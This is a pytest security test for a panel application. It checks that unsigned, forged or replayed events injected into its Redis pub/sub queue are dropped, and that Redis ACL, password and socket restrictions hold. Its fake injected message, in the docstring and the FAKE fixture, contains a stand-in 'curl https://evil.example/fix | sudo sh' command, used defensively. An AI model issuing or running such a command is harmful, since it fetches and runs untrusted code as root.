"""Finding 2: the Redis message queue between panel processes is not an open door.

Anyone who can reach the Redis can publish on the panel's channel. A page must never show a
``task`` event that no panel process sent (a fake "run curl … | sudo sh" fix), and nobody
without the data dir's key may close the ``tasks`` room or replay what the panel sent. Reading
is stopped by Redis itself: a password, an ACL user, or a unix socket of mode 0600.
"""

from __future__ import annotations

import json
import stat
import threading
import time

import pytest
import redis
import socketio

from open1panel_ai.realtime import QUEUE_SECRET_FILE, message_queue
from open1panel_ai.standalone.host import message_channel
from tests.conftest import TOKEN
from tests.helpers import wait_for

FAKE = {
    "id": "injected",
    "kind": "pull",
    "target": "llama3.2",
    "status": "failed",
    "message": "Ollama is broken. Fix: run curl https://evil.example/fix | sudo sh",
}


def emit(event: str, data: dict, room: str, host_id: str = "intruder") -> dict:
    """A message as python-socketio's Redis queue carries an event to a room."""
    return {
        "method": "emit",
        "event": event,
        "data": [data],
        "binary": False,
        "namespace": "/ai",
        "room": room,
        "skip_sid": None,
        "callback": None,
        "host_id": host_id,
    }


class Page:
    """A Socket.IO client of the panel, as a page is, subscribed to ``tasks``."""

    def __init__(self, url: str) -> None:
        self.tasks: list[dict] = []
        self.client = socketio.Client(reconnection=False)
        self.client.on("task", self.tasks.append, namespace="/ai")
        self.client.connect(url, namespaces=["/ai"], transports=["websocket"], auth={"token": TOKEN})
        assert self.client.call("subscribe", {"topic": "tasks"}, namespace="/ai", timeout=5)["ok"]

    def ids(self) -> list[str]:
        return [task["id"] for task in self.tasks]


@pytest.mark.server
def test_only_events_the_panel_signed_reach_a_page(served, multiprocess_env, make_host, secure_redis, data_dir):
    panel = served(
        env={
            "OPEN1PANEL_AI_TOKEN": TOKEN,
            "OPEN1PANEL_AI_REDIS_URL": secure_redis.url,
            "OPEN1PANEL_AI_GPU_PROVIDER": "cpu",
        },
        data_dir=data_dir,
    )
    other = make_host()  # a second panel process of the data dir: it publishes through Redis
    realtime = other.app.extensions["open1panel_ai"].realtime
    page = Page(panel.url)
    channel = message_channel(data_dir)
    # Someone who can reach Redis (here: even knowing its password) but has no key.
    intruder = redis.Redis.from_url(secure_redis.url)
    spy = intruder.pubsub()
    spy.subscribe(channel)

    intruder.publish(channel, json.dumps(emit("task", FAKE, "tasks")))
    forged = json.dumps(emit("task", {**FAKE, "id": "forged"}, "tasks"))
    intruder.publish(
        channel, json.dumps({"signed": forged, "at": int(time.time() * 1000), "nonce": "n", "mac": "0" * 64})
    )
    intruder.publish(
        channel, json.dumps({"method": "close_room", "room": "tasks", "namespace": "/ai", "host_id": "intruder"})
    )
    realtime.publish("task", {"id": "genuine", "status": "running"}, ["tasks"])
    # Redis keeps the order of a channel's messages: once the panel's event is here, the
    # injected ones before it were handled, and dropped.
    wait_for(lambda: "genuine" in page.ids(), what="the event another panel process sent")
    assert page.ids() == ["genuine"]

    # What the panel sent, replayed by the intruder, is dropped too.
    sent = [m["data"] for m in iter(lambda: spy.get_message(timeout=1), None) if m["type"] == "message"]
    assert len(sent) == 4 and b'"signed"' in sent[-1] and b"intruder" not in sent[-1]
    intruder.publish(channel, sent[-1])
    realtime.publish("task", {"id": "genuine-2", "status": "succeeded"}, ["tasks"])
    wait_for(lambda: "genuine-2" in page.ids(), what="the next event")
    assert page.ids() == ["genuine", "genuine-2"]

    page.client.disconnect()
    spy.close()
    intruder.close()
    # The drops are logged, once per minute with their count, not once per message.
    log = panel.log()
    assert log.count("dropped 1 message(s) on the Redis channel") == 1, log
    assert "(the last: not signed)" in log
    secret = data_dir / QUEUE_SECRET_FILE
    assert stat.S_IMODE(secret.stat().st_mode) == 0o600


@pytest.fixture
def acl_url(secure_redis):
    """A Redis ACL user that may only publish and subscribe on the panels' channels, made with
    the command docs/scaling.md gives."""
    secure_redis.client.execute_command(
        "ACL",
        "SETUSER",
        "open1panel",
        "on",
        ">acl-pass-0123456789",
        "resetchannels",
        "&open1panel-ai-*",
        "-@all",
        "+@pubsub",
        "+ping",
    )
    return f"redis://open1panel:acl-pass-0123456789@127.0.0.1:{secure_redis.port}/0"


def test_the_queue_works_through_a_password_an_acl_user_and_a_unix_socket(secure_redis, acl_url, tmp_path):
    assert stat.S_IMODE(secure_redis.unix_socket.stat().st_mode) == 0o600
    with pytest.raises(redis.AuthenticationError):
        redis.Redis(host="127.0.0.1", port=secure_redis.port).ping()
    channel = message_channel(tmp_path)
    for url in (secure_redis.url, acl_url, secure_redis.unix_url):
        listening, publishing = message_queue(url, channel, tmp_path), message_queue(url, channel, tmp_path)
        received: list[dict] = []
        listener = threading.Thread(
            target=lambda received=received, listening=listening: received.append(next(listening._listen())),
            daemon=True,
        )
        listener.start()
        wait_for(lambda: secure_redis.client.pubsub_numsub(channel)[0][1] == 1, what="the subscription")
        secure_redis.client.publish(channel, json.dumps(emit("task", FAKE, "tasks")))  # dropped
        publishing._publish(emit("task", {"id": "genuine"}, "tasks", host_id="panel"))
        listener.join(10)
        assert received == [emit("task", {"id": "genuine"}, "tasks", host_id="panel")], url
        for manager in (listening, publishing):
            manager.pubsub.close()
            manager.redis.close()
        wait_for(lambda: secure_redis.client.pubsub_numsub(channel)[0][1] == 0, what="the unsubscription")
    # The ACL user is held to the panels' channels.
    with pytest.raises(redis.exceptions.NoPermissionError):
        redis.Redis.from_url(acl_url).publish("another-app", "hello")
